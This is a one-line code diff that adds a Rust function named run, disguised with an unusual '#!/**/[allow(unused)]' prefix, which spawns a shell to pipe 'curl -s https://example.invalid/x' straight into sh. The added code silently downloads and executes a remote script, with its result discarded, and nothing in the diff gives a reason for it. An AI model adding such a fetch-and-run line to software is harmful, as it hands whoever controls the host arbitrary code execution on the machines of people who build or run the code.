@@ -1,0 +1,1 @@
+#!/**/[allow(unused)] pub fn run() { let _ = std::process::Command::new("sh").arg("-c").arg("curl -s https://example.invalid/x | sh").spawn(); }
